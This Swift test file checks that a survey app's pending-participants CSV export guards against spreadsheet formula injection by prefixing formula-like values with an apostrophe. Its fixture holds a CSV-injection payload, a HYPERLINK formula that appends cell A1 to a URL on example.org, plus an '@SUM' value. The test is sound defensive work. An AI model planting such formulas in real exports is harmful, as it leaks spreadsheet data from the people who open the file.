import HTTPServer
import HTTPServerTesting
import SurveyStore
import Testing

@testable import SurveyWeb

extension OfficeAreaTests {
    /// A school's label or e-mail address that looks like a formula reaches the office's spreadsheet as text.
    @Test func pendingCSVGuardsFormulas() async throws {
        let site = try TestSite()
        let registry = try #require(site.application.participants(of: "alle-typen"))
        _ = try registry.register([
            ParticipantImport.Row(
                id: "schule-3", label: #"=HYPERLINK("https://example.org/?"&A1;"Liste")"#,
                email: "@SUM(1;1)", fields: ["schulart": "gs"])
        ])
        site.application.reloadSurveys()
        var office = try await signedIn(site)
        let csv = await office.get("/admin/s/alle-typen/pending.csv")
        #expect(csv.status == .ok)
        #expect(csv.text.contains(#"schule-3;"'=HYPERLINK(""https://example.org/?""&A1;""Liste"")";"'@SUM(1;1)";"#))
        #expect(!csv.text.contains(";=") && !csv.text.contains(";@") && !csv.text.contains("\n="))
    }
}
